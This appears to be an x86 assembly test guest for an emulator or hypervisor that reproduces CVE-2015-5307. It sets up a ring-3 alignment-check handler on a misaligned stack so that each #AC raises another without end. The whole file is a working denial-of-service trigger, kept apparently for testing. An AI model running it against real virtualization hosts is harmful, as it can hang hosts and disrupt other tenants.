; Raises #AC without end: its handler is at privilege level 3, on a stack that is not aligned, so that pushing the frame of
; one #AC raises the next (CVE-2015-5307).
%include "guest.inc"

ALIGNMENT_CHECK equ 17
USER_STACK equ STACK_TOP - 0x1001      ; not aligned

start:
    begin
    cli
    say "alignment_loop: begins"
    lgdt [gdt_pointer]
    mov eax, handler
    mov [gates + 8 * ALIGNMENT_CHECK], ax
    mov word [gates + 8 * ALIGNMENT_CHECK + 2], 0x0B
    mov word [gates + 8 * ALIGNMENT_CHECK + 4], 0xEE00
    shr eax, 16
    mov [gates + 8 * ALIGNMENT_CHECK + 6], ax
    lidt [idt_pointer]
    mov eax, cr0
    or eax, 1 << 18                    ; AM
    mov cr0, eax
    push 0x13
    push USER_STACK
    push 1 << 18 | 2                   ; EFLAGS: AC
    push 0x0B
    push user
    iretd

user:
    mov ax, 0x13
    mov ds, ax
.again:
    mov eax, [start + 1 - ((start - $$) & 1)] ; an odd address
    jmp .again

; Reached only where the emulated processor does not check alignment.
handler:
    jmp handler

align 8
gdt:
    dq 0
    dq 0x00CFFB000000FFFF              ; 08h: code, ring 3
    dq 0x00CFF3000000FFFF              ; 10h: data, ring 3
gdt_pointer:
    dw $ - gdt - 1
    dd gdt
idt_pointer:
    dw gates_end - gates - 1
    dd gates
align 8
gates: times 8 * (ALIGNMENT_CHECK + 1) db 0
gates_end:
end_of_guest:
